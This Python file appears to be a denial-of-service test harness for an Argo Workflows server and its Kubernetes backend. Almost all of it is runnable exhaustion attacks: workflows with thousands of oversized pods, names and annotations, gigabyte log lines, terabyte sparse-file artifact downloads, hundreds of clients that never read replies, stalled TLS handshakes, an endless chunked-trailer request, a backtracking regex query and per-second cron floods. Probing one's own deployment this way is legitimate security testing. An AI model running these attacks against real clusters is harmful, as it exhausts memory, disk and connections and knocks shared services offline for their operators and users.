"""Bombs of a third kind: what is held many times, and what nobody takes. Answers whose clients do not read, one text in thousands of
pods or names, logs of long lines, downloads of what is huge on the disk, servers that answer too much.
"""

from __future__ import annotations

import contextlib
import http.server
import json
import socket
import ssl
import threading
import time
from collections.abc import Callable
from typing import Any
from urllib.parse import quote

from attacks import (
    CORE,
    LASTS,
    LOG,
    RUNS,
    TEMPLATES,
    Attack,
    Server,
    asks,
    at_once,
    large_run,
    logged,
    request,
    run,
    said,
    stored,
    together,
    unread,
)
from workflows import ECHO, HOLD, PARAMETERS, SHELL, SHORT, TRUE, Json, given, loop, step, workflow


# --- workflows -------------------------------------------------------------------------------------------------------
def wide_names(levels: int, size: int, width: int) -> Json:
    """Loops within loops whose items are long: each name holds those of all levels above it."""
    items = [f"{n}" * (size // len(str(n))) for n in range(width)]
    templates: list[Json] = [
        {"name": "m" if not level else f"t{level}",
         "steps": [[{"name": "s", "template": f"t{level + 1}", "withItems": items}]]}
        for level in range(levels)
    ]  # fmt: skip
    return workflow(*templates, HOLD | {"name": f"t{levels}"})


def chain(levels: int, **more: Any) -> Json:
    """Each template calls the next, with what is given."""
    templates: list[Json] = [
        {"name": "m" if not n else f"t{n}", "steps": [[{"name": "s", "template": f"t{n + 1}", **more}]]}
        for n in range(levels)
    ]
    return workflow(*templates, TRUE | {"name": f"t{levels}"})


def hooks_of_hooks(levels: int) -> Json:
    """Each template has a hook of the next, and one of itself when it fails."""
    templates: list[Json] = [
        {"name": "m" if not n else f"t{n}",
         "steps": [[{"name": "s", "template": "h", "hooks": {
             "running": {"template": f"t{n + 1}", "expression": "steps.s.status == 'Running'"},
             "exit": {"template": f"t{n + 1}"}}}]]}
        for n in range(levels)
    ]  # fmt: skip
    return workflow(*templates, TRUE | {"name": f"t{levels}"}, HOLD | {"suspend": {"duration": "1"}})


WORKFLOWS: dict[str, Callable[[], Json]] = {
    "names: 3 levels of 20 items of 20,000 characters": lambda: wide_names(3, 20_000, 20),
    "names: 1,000 items of 20,000 characters": lambda: wide_names(1, 20_000, 1000),
    "pods: 5,000 with a script of 1 MB": lambda: loop(
        {"name": "p", "script": {"image": "busybox", "command": ["sh"], "source": "#" + "x" * 1_000_000}}, 5000),
    "pods: 5,000 with annotations of 250 kB": lambda: loop(
        TRUE | {"name": "p", "metadata": {"annotations": {"a": "x" * 250_000}}}, 5000),
    "pods: 3,000 with a podSpecPatch of 200 kB": lambda: loop(
        TRUE | {"name": "p", "podSpecPatch": "containers: [{name: main, env: [{name: A, value: " + "x" * 200_000 + "}]}]"}, 3000),
    "pods: 2,000 with raw artifacts of 1 MB": lambda: loop(
        TRUE | {"name": "p", "inputs": {"artifacts": [{"name": "a", "path": "/tmp/a", "raw": {"data": "x" * 1_000_000}}]}}, 2000),
    "errors: 5,000 nodes that repeat 20,000 characters": lambda: loop(
        ECHO | {"name": "p"}, 5000,
        {"arguments": given("{{=" + " + ".join(["'{{item}}'"] * 2000) + " + }}"), "continueOn": {"error": True}}),
    "errors: 5,000 nodes whose when is 50,000 characters": lambda: loop(
        HOLD, 5000, {"when": "'{{item}}' == " + "(" * 25_000}),
    "outputs: 500 results of 250 kB": lambda: loop(
        {"name": "p", "script": {"image": "busybox", "command": ["sh"], "source": "head -c 250000 /dev/zero | tr '\\0' x"}}, 500),
    "outputs: global parameters of 3,000 nodes": lambda: loop(
        {"name": "p", "inputs": {"parameters": [{"name": "x"}]}, "container": {"image": "busybox", "command": ["true"]},
         "outputs": {"parameters": [{"name": "p", "value": "x" * 5000, "globalName": "g{{inputs.parameters.x}}"}]}}, 3000),
    "chain: 99 levels": lambda: chain(99),
    "chain: 95 levels with a loop of two": lambda: chain(95, withItems=[1, 2]),
    "chain: 90 levels with 20,000 characters": lambda: chain(90, withItems=["x" * 20_000]),
    "hooks: of hooks, 12 levels": lambda: hooks_of_hooks(12),
    "locks: 3,000 semaphores": lambda: loop(
        HOLD | {"inputs": {"parameters": [{"name": "x"}]},
                "synchronization": {"semaphores": [{"configMapKeyRef": {"name": "sem-{{inputs.parameters.x}}", "key": "k"}}]}}, 3000),
    "retry: 2,000 with an expression that is costly": lambda: loop(
        {"name": "f", "container": SHELL | {"args": ["false"]},
         "retryStrategy": {"limit": "3", "expression": "len(map(1..300, {map(1..300, {1})})) > 0"}}, 2000),
    "tags: expressions within expressions": lambda: step(when="{{=" * 5000 + "1 == 1" + "}}" * 5000),
    "tags: unicode that grows": lambda: workflow(
        ECHO | {"name": "m", "inputs": {"parameters": [{"name": "x", "value": "{{=upper(repeat('\u0149\ufb03', 900000))}}"}]}}),
    "loop: withParam of a deep number": lambda: step(withParam="[" + "9" * 4_000_000 + "]"),
    "loop: withParam of 40,000 texts of 400": lambda: workflow(
        {"name": "m", "steps": [[{"name": "s", "template": "e", "arguments": given("{{item}}"),
                                  "withParam": json.dumps(["x" * 400] * 40_000)}]]}, ECHO),
    "dag: 3,000 tasks with an exit handler each": lambda: workflow(
        {"name": "m", "dag": {"tasks": [
            {"name": f"t{n}", "template": "h", "hooks": {"exit": {"template": "h"}}} for n in range(3000)]}}, SHORT),
    "dag: targets of 5,000": lambda: workflow(
        {"name": "m", "dag": {"target": " ".join(f"t{n}" for n in range(5000)),
                              "tasks": [{"name": f"t{n}", "template": "h"} for n in range(5000)]}}, SHORT),
    "suspend: 40,000 that wait": lambda: loop(HOLD, 40_000),
    "resource: a config map of 3 MB, 50 times": lambda: loop(
        {"name": "r", "resource": {"action": "create", "manifest": (
            "apiVersion: v1\nkind: ConfigMap\nmetadata: {generateName: b-}\ndata: {a: '" + "x" * 1_040_000 + "'}\n")}}, 50),
    "metrics: 5,000 with a long help": lambda: loop(
        HOLD | {"inputs": {"parameters": [{"name": "x"}]}, "suspend": {"duration": "0"}, "metrics": {"prometheus": [
            {"name": "wide", "help": "x" * 5000, "gauge": {"value": "1"}}]}}, 5000),
}  # fmt: skip


def unread_run(count: int, path: str, **how: Any) -> Attack:
    """Many ask for a run of 10,000 nodes, and do not read it."""

    def attack(server: Server) -> str:
        name = large_run(server)
        with unread(server, count, path.replace("NAME", name), **how):
            time.sleep(LASTS)
        server.call("DELETE", f"{RUNS}/{name}", timeout=120)
        return name

    return attack


def unread_objects(count: int, path: str) -> Attack:
    """Seventy config maps of a megabyte, and many who ask for all of them and do not read."""

    def attack(server: Server) -> str:
        def one(n: int) -> Json:
            return {"metadata": {"name": f"u-{n}"}, "data": {"a": "x" * 1_000_000}}

        statuses = {server.call("POST", f"{CORE}/configmaps", one(n), kubernetes=True)[0] for n in range(70)}
        with unread(server, count, path, kubernetes=True):
            time.sleep(LASTS)
        for n in range(70):
            server.call("DELETE", f"{CORE}/configmaps/u-{n}", kubernetes=True)
        return str(statuses)

    return attack


def busy(count: int, path: str, *, fresh: bool = False) -> Attack:
    """Connections that ask again as soon as they were answered. fresh: each time on a new one."""

    def attack(server: Server) -> str:
        head = f"GET {path} HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer {server.token}\r\n\r\n".encode()
        end, answers = time.monotonic() + LASTS, [0]

        def one() -> None:
            while time.monotonic() < end:
                with contextlib.suppress(OSError), socket.create_connection(server.argo, timeout=10) as connection:
                    while time.monotonic() < end:
                        connection.sendall(head)
                        if not connection.recv(65536):
                            break
                        answers[0] += 1
                        if fresh:
                            break

        at_once(count, one)
        return f"{answers[0]} answers"

    return attack


# --- TLS -------------------------------------------------------------------------------------------------------------
def handshakes(count: int) -> Attack:
    """TLS that is begun, and ended at once, by many all the time; and as many that stop in the middle."""

    def attack(server: Server) -> str:
        context = ssl.create_default_context()
        context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
        end, done, held = time.monotonic() + LASTS, [0], []
        for _ in range(count):
            with contextlib.suppress(OSError):
                held.append(socket.create_connection(server.argo, timeout=5))
                held[-1].sendall(b"\x16\x03\x01\x02\x00\x01")

        def one() -> None:
            while time.monotonic() < end:
                with contextlib.suppress(OSError), socket.create_connection(server.argo, timeout=5) as plain:
                    context.wrap_socket(plain).close()
                    done[0] += 1

        at_once(20, one)
        for connection in held:
            connection.close()
        return f"{done[0]} handshakes"

    return attack


KUBERNETES_LOG = f"{CORE}/pods/NAME/log?container=main"


# --- artifacts -------------------------------------------------------------------------------------------------------
def download(script: str, path: str, count: int, **more: Any) -> Attack:
    """An artifact that a task makes of `path`, and many who download it."""

    def attack(server: Server) -> str:
        artifact = {"name": "a", "path": path, **more}
        document = workflow(
            {"name": "m", "container": SHELL | {"args": [script]}, "outputs": {"artifacts": [artifact]}}
        )
        name = json.loads(server.call("POST", RUNS, {"workflow": document})[1])["metadata"]["name"]
        phase = ""
        for _ in range(200):
            found = json.loads(server.call("GET", f"{RUNS}/{name}?fields=status.phase,status.message")[1])["status"]
            phase = f"{found.get('phase')} {found.get('message', '')}"
            if found.get("phase") not in (None, "", "Pending", "Running"):
                break
            time.sleep(0.1)
        with unread(server, count, f"/artifacts/default/{name}/{name}/a"):
            time.sleep(LASTS)
        server.call("DELETE", f"{RUNS}/{name}", timeout=120)
        return phase

    return attack


# --- others ----------------------------------------------------------------------------------------------------------
class _Endless(http.server.BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        self.send_response(200)
        self.end_headers()
        end = time.monotonic() + 2 * LASTS
        with contextlib.suppress(OSError):
            while time.monotonic() < end:
                self.wfile.write(b"x" * 1_000_000)

    def log_message(self, *_: Any) -> None:
        pass


def endless_answer(server: Server) -> str:
    """An http template whose server never stops."""
    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Endless) as other:
        threading.Thread(target=other.serve_forever, daemon=True).start()
        try:
            return run(server, workflow({"name": "m", "http": {"url": f"http://127.0.0.1:{other.server_port}/"}}))
        finally:
            other.shutdown()


def often(count: int, **spec: Any) -> Attack:
    """Cron workflows that run each second."""

    def attack(server: Server) -> str:
        path, short = "/api/v1/cron-workflows/default", workflow(SHORT | {"name": "m"})["spec"]
        answers = set()
        for n in range(count):
            document = {
                "metadata": {"name": f"each-{n}"},
                "spec": {"schedules": ["@every 1s"], "workflowSpec": short, **spec},
            }
            answers.add(server.call("POST", path, {"cronWorkflow": document})[0])
        time.sleep(LASTS)
        for n in range(count):
            server.call("DELETE", f"{path}/each-{n}")
        return str(answers)

    return attack


def kept_runs(count: int, document: Callable[[], Json]) -> Attack:
    """Runs that are over and stay."""

    def attack(server: Server) -> str:
        answers: dict[str, int] = {}
        names = []
        for _ in range(count):
            status, answer = server.call("POST", RUNS, {"workflow": document()}, timeout=120)
            text = str(status) if status == 200 else said(status, answer)
            answers[text] = answers.get(text, 0) + 1
            if status == 200:
                names.append(json.loads(answer)["metadata"]["name"])
        time.sleep(LASTS)
        server.call("GET", RUNS, timeout=120)
        for name in names:
            server.call("DELETE", f"{RUNS}/{name}", timeout=120)
        return str(answers)

    return attack


def snapshots(server: Server) -> str:
    """Runs each of which takes 60 templates of a megabyte along."""
    for n in range(60):
        document = {"metadata": {"name": f"snap-{n}"}, "spec": {"templates": [TRUE | {"name": "m", "container": {
            "image": "busybox", "command": ["true"], "args": ["x" * 1_000_000]}}]}}  # fmt: skip
        server.call("POST", TEMPLATES, {"template": document})
    tasks = [{"name": f"t{n}", "templateRef": {"name": f"snap-{n}", "template": "m"}} for n in range(60)]
    answer = kept_runs(10, lambda: workflow({"name": "m", "dag": {"tasks": tasks}}))(server)
    for n in range(60):
        server.call("DELETE", f"{TEMPLATES}/snap-{n}")
    return answer


def circle(server: Server) -> str:
    """Stored templates that call each other in a circle, each twice."""

    def one(n: int, to: int) -> Json:
        call = [{"name": f"s{k}", "templateRef": {"name": f"circle-{to}", "template": "m"}} for k in range(2)]
        return {
            "template": {"metadata": {"name": f"circle-{n}"}, "spec": {"templates": [{"name": "m", "steps": [call]}]}}
        }

    plain = {"template": {"metadata": {"name": "circle-0"}, "spec": {"templates": [TRUE | {"name": "m"}]}}}
    server.call("POST", TEMPLATES, plain)
    for n in range(1, 40):
        server.call("POST", TEMPLATES, one(n, n - 1))
    stored_first = json.loads(server.call("GET", f"{TEMPLATES}/circle-0")[1])
    closing = one(0, 39)["template"]
    closing["metadata"] = stored_first["metadata"]
    answer = said(*server.call("PUT", f"{TEMPLATES}/circle-0", {"template": closing}))
    text = run(
        server,
        workflow({"name": "m", "steps": [[{"name": "s", "templateRef": {"name": "circle-39", "template": "m"}}]]}),
    )
    for n in range(40):
        server.call("DELETE", f"{TEMPLATES}/circle-{n}")
    return f"{answer}; {text}"


def submitted_from(options: Callable[[], Json]) -> Attack:
    """A stored template, submitted with options."""

    def attack(server: Server) -> str:
        server.call(
            "POST",
            TEMPLATES,
            {"template": {"metadata": {"name": "one"}, "spec": workflow(TRUE | {"name": "m"})["spec"]}},
        )
        body = {"resourceKind": "WorkflowTemplate", "resourceName": "one", "submitOptions": options()}
        answer = said(*server.call("POST", f"{RUNS}/submit", body, timeout=120))
        server.call("DELETE", f"{TEMPLATES}/one")
        return answer

    return attack


LINE_OF_A_GB = "head -c 1000000000 /dev/zero | tr '\\0' x"
QUOTES = "head -c 300000000 /dev/zero | tr '\\0' '\\001'"
BACKTRACKING = quote("(a+)+$")
REQUESTS: dict[str, Attack] = {
    "unread: 300 ask for a run of 10,000 nodes": unread_run(300, f"{RUNS}/NAME"),
    "unread: 300 ask for a list of it": unread_run(300, RUNS),
    "unread: 300 ask for its pods": unread_run(300, f"{CORE}/pods", kubernetes=True),
    "unread: 60 ask for config maps of 70 MB": unread_objects(60, f"{CORE}/configmaps"),
    "unread: 60 watch config maps of 70 MB": unread_objects(60, f"{CORE}/configmaps?watch=true"),
    "unread: 60 watch them with initial events": unread_objects(
        60, f"{CORE}/configmaps?watch=true&sendInitialEvents=true&resourceVersionMatch=NotOlderThan&allowWatchBookmarks=true"),
    "busy: 500 connections that ask again": busy(500, "/api/v1/version"),
    "busy: 100 clients, a connection each time": busy(100, "/api/v1/version", fresh=True),
    "busy: 200 connections that list": busy(200, f"{RUNS}?fields=items.metadata.name"),
    "tls: 20 that shake hands all the time, 500 that stop": handshakes(500),
    "logs: a line of 1 GB": logged(LINE_OF_A_GB, asks(LOG)),
    "logs: a line of 1 GB, followed": logged(LINE_OF_A_GB, asks(LOG + "&logOptions.follow=true")),
    "logs: a line of 1 GB, 20 that never read": logged(LINE_OF_A_GB, asks(LOG, 20, reads=False)),
    "logs: a line of 1 GB, Kubernetes, 20 that never read": logged(LINE_OF_A_GB, asks(KUBERNETES_LOG, 20, kubernetes=True, reads=False)),
    "logs: control characters": logged(QUOTES, asks(LOG, 10)),
    "logs: the last billion lines": logged("yes | head -n 20000000", asks(LOG + "&logOptions.tailLines=1000000000")),
    "logs: a pattern that tracks back": logged("head -c 50 /dev/zero | tr '\\0' a; echo b", asks(f"{LOG}&grep={BACKTRACKING}")),
    "logs: 800 followers of one run": lambda server: _followers(server, 800),
    "logs: 500 followers, Kubernetes": lambda server: _followers(server, 500, kubernetes=True),
    "artifacts: a sparse file of 1 TB, 30 downloads": download("truncate -s 1T /tmp/a", "/tmp/a", 30, archive={"none": {}}),
    "artifacts: a folder with a sparse file of 100 GB, 30 downloads": download(
        "mkdir /tmp/a; truncate -s 100G /tmp/a/b", "/tmp/a", 30, archive={"none": {}}),
    "artifacts: a folder of 50,000 files, 30 downloads": download(
        "mkdir /tmp/a; cd /tmp/a; seq 50000 | xargs touch", "/tmp/a", 30, archive={"none": {}}),
    "http: an answer that never ends": endless_answer,
    "cron: 300 each second": often(300),
    "cron: 300 each second, replacing": often(300, concurrencyPolicy="Replace"),
    "runs: 60 of 15 MB that stay": kept_runs(60, lambda: workflow(
        SHORT | {"name": "m"}, arguments={"parameters": [{"name": "x", "value": "x" * 15_000_000}]})),
    "runs: 10 with snapshots of 60 MB": snapshots,
    "stored: templates in a circle": circle,
    "submit: 100,000 parameters": submitted_from(lambda: {"parameters": [f"p{n}=x" for n in range(100_000)]}),
    "submit: labels of 10 MB": submitted_from(lambda: {"labels": ",".join(f"l{n}=x" for n in range(800_000))}),
    "events: a payload of 30 MB, 10 clients": together(10, "POST", "/api/v1/events/default/x", lambda: {"a": ["x" * 300] * 100_000}),
    "query: 1,000 pages of a token": lambda server: _pages(server, 1000),
    "body: a trailer without end": lambda server: _trailer(server),
    "kubernetes: a merge patch of 200 levels, 100 clients": together(
        100, "POST", f"{CORE}/configmaps?dryRun=All", lambda: {"metadata": {"name": "deep", "annotations": {"a": "x" * 200_000}}}),
    "archive: 60 clients list 200 runs by a label": lambda server: _archived(server),
    "stored: 100 config maps of 20,000 parameters": stored(
        100, f"{CORE}/configmaps", lambda n: {
            "metadata": {"name": f"q-{n}", "labels": PARAMETERS}, "data": {f"k{m}": "x" for m in range(20_000)}},
        kubernetes=True, then=step()),
    "lint: 60 MB of templates that are fine": request(
        "POST", f"{RUNS}/lint", lambda: {"workflow": workflow(*[TRUE | {"name": "m" if not n else f"t{n}", "metadata": {
            "annotations": {"a": "x" * 100_000}}} for n in range(300)])}),
}  # fmt: skip


def _followers(server: Server, count: int, *, kubernetes: bool = False) -> str:
    document = workflow({"name": "m", "container": SHELL | {"args": ["while :; do echo a; sleep 1; done"]}})
    name = json.loads(server.call("POST", RUNS, {"workflow": document})[1])["metadata"]["name"]
    time.sleep(1)
    path = f"{KUBERNETES_LOG}&follow=true" if kubernetes else f"{LOG}&logOptions.follow=true"
    text = asks(path, count, kubernetes=kubernetes, reads=False)(server, name)
    server.call("DELETE", f"{RUNS}/{name}", timeout=120)
    return text


def _pages(server: Server, count: int) -> str:
    statuses: dict[int, int] = {}
    for n in range(count):
        token = ("9" * n, "-1", "%00", "x" * 10_000, str(2**63), str(2**62))[n % 6]
        status = server.call("GET", f"{RUNS}?listOptions.limit=1&listOptions.continue={token}")[0]
        statuses[status] = statuses.get(status, 0) + 1
    return str(statuses)


def _trailer(server: Server) -> str:
    head = f"POST {RUNS} HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer {server.token}\r\nTransfer-Encoding: chunked\r\n\r\n"
    with socket.create_connection(server.argo, timeout=10) as connection:
        try:
            connection.sendall(head.encode() + b"2\r\n{}\r\n0\r\n")
            for _ in range(100):
                connection.sendall(b"X: " + b"y" * 1_000_000 + b"\r\n")
            return (connection.recv(200).split(b"\r\n")[0]).decode()
        except OSError as error:
            return type(error).__name__


def _archived(server: Server) -> str:
    names = []
    for _ in range(200):
        document = loop(SHORT, 20)
        names.append(json.loads(server.call("POST", RUNS, {"workflow": document})[1])["metadata"]["name"])
    time.sleep(3)
    for name in names:
        server.call("DELETE", f"{RUNS}/{name}")
    path = "/api/v1/archived-workflows?listOptions.namespace=default&listOptions.labelSelector=a%3Db"
    return together(60, "GET", path)(server)[:60]
